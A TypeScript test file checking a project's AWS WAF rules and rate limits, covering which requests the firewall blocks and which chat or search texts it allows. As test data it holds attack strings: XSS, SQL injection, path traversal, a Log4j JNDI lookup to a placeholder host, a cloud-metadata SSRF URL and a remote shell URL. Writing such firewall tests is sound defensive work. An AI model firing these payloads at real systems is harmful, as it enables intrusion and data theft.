import { ROUTE_GROUPS } from '@prosa/infra/programs.ts';
import { fullPathOf, type RouteGroup } from '@prosa/shared/contracts/route.ts';
import { describe, expect, it } from 'vitest';
import { countedIn, type EdgeCall, MANAGED_RULES, refusedBy } from './support/evaluate-firewall.ts';
import { listAt, propertyAt } from './support/property-at.ts';
import { flat, resourcesOf } from './support/templates.ts';

const rules = listAt(resourcesOf('prosa-web', 'AWS::WAFv2::WebACL')[0], 'Properties.Rules');
const groups = rules.flatMap((rule) => propertyAt(rule, 'Statement.ManagedRuleGroupStatement') ?? []);
const rows = Object.values<RouteGroup>(ROUTE_GROUPS).flatMap((group) => Object.values(group));
const refused = (call: EdgeCall) =>
  refusedBy(rules, {
    ...call,
    headers: { host: 'app.example.com', 'user-agent': 'browser', ...call.headers },
  });

/** Built from parts, because the linter would take it for a template. */
const LOOKUP = '${jndi:ldap://203.0.113.9/a}';
/** Texts that users quote in a chat. */
const WORDS = [
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '../../etc/passwd',
  LOOKUP,
  'http://169.254.169.254/latest/meta-data/',
  'http://203.0.113.9/shell.txt',
  'java.lang.Runtime.getRuntime()',
  'veja o arquivo erro.log em anexo',
  '"$1:__proto__:then"',
  `<img src=x onerror=alert(1)> ${'a'.repeat(20_000)}`,
];
const SEARCHED = WORDS.filter((text) => text.length < 500);

describe('S-64 requests that the firewall allows', () => {
  it.each(WORDS)('a quoted text in a message: %s', (text) => {
    const body = JSON.stringify({ body: text });
    for (const path of ['/api/messages/0193f0e2', '/api/ticket-notes', '/external/messages/send'])
      expect(refused({ path, body }), path).toBeUndefined();
  });

  it.each(SEARCHED)('a quoted text in a search: %s', (text) => {
    const query = `searchParam=${encodeURIComponent(text)}&pageNumber=1`;
    expect(refused({ path: '/api/contacts', query })).toBeUndefined();
  });

  it.each(WORDS)('a quoted text in a signed delivery of a provider: %s', (text) => {
    const body = JSON.stringify({
      entry: [{ changes: [{ value: { messages: [{ text: { body: text } }] } }] }],
    });
    const call = { path: '/api/webhooks/meta', body: body.repeat(50), headers: { 'user-agent': text } };
    expect(refused(call)).toBeUndefined();
  });

  it('a request of another system without a user agent', () => {
    expect(refusedBy(rules, { path: '/external/messages/send', headers: {} })).toBeUndefined();
  });
});

describe('S-64 requests that the firewall refuses', () => {
  it.each<[string, EdgeCall, string]>([
    ['a path that climbs', { path: '/api/..%2f..%2fetc' }, 'GenericLFI_URIPATH'],
    ['scripts in a path', { path: '/%3Cscript%3E' }, 'CrossSiteScripting_URIPATH'],
    ['paths that programs try', { path: '/.env' }, 'ExploitablePaths_URIPATH'],
    ['lookups in headers', { path: '/', headers: { referer: LOOKUP } }, 'Log4JRCE_HEADER'],
    ['scanners', { path: '/', headers: { 'user-agent': 'nmap' } }, 'UserAgent_BadBots_HEADER'],
    ['a flood', { path: '/api/tickets', calls: 10_001 }, 'rate'],
    ['guesses at passwords', { path: '/API//auth/%6Cogin', calls: 101 }, 'sign-in-rate'],
  ])('%s', (_name, call, rule) => {
    expect(refused(call)).toBe(rule);
  });

  it('a request that only resembles a delivery', () => {
    for (const path of [
      '/api/webhooks/meta/../../..%2fetc',
      '/api/webhooks/../tickets',
      '/api/webhooks/%2e%2e/tickets',
      '/api/webhooks/meta/x',
      '/API/webhooks/meta',
    ])
      expect(refused({ path, calls: 10_001 }), path).toBe('rate');
  });
});

describe('R10 rate limit for provider deliveries', () => {
  const webhooks = new Set(rows.filter(({ permission }) => permission === 'webhook').map(fullPathOf));
  const limits = resourcesOf('prosa-api', 'AWS::ApiGatewayV2::Stage').map((stage) =>
    propertyAt(stage, 'Properties.RouteSettings'),
  );

  it.each([...webhooks])('%s: one address may send as much as the route accepts', (path) => {
    const perSecond = limits.map((all) =>
      Number(propertyAt(propertyAt(all, `POST ${path}`), 'ThrottlingRateLimit')),
    );
    const most = perSecond.find((rate) => rate > 0) ?? 0;
    expect(most).toBeGreaterThanOrEqual(1000);
    expect(refused({ path, calls: most * 300 })).toBeUndefined();
    expect(refused({ path, calls: most * 300 + 1 })).toBe('webhook-rate');
  });
});

describe('managed rules of AWS', () => {
  it('only rules that read free text are set to count, and all others block', () => {
    expect(groups.map((group) => flat(propertyAt(group, 'Name')))).toEqual([
      'AWSManagedRulesKnownBadInputsRuleSet',
      'AWSManagedRulesCommonRuleSet',
    ]);
    for (const group of groups) {
      const all = Object.keys(MANAGED_RULES[flat(propertyAt(group, 'Name'))] ?? {});
      const isText = (name: string) => /_(BODY|QUERYARGUMENTS|QUERYSTRING)$/.test(name);
      const exceptions = ['SizeRestrictions_QUERYSTRING', 'NoUserAgent_HEADER'];
      const counted = countedIn(group);
      // Overriding a rule that does not exist fails the deployment.
      expect(counted.filter((name) => !all.includes(name))).toEqual([]);
      expect(counted.filter((name) => !exceptions.includes(name)).toSorted()).toEqual(
        all.filter((name) => isText(name) && !exceptions.includes(name)).toSorted(),
      );
    }
  });

  it("each quoted text would trigger a rule that inspected users' texts", () => {
    const strict = (name: string) => [
      { Name: name, Priority: 9, Statement: { ManagedRuleGroupStatement: { Name: name } } },
    ];
    const found = WORDS.map((text) =>
      Object.keys(MANAGED_RULES)
        .map((name) => refusedBy(strict(name), { path: '/', body: text, headers: { 'user-agent': 'x' } }))
        .find((rule) => rule !== undefined),
    );
    expect(found.filter((rule) => rule === undefined)).toHaveLength(1);
  });
});
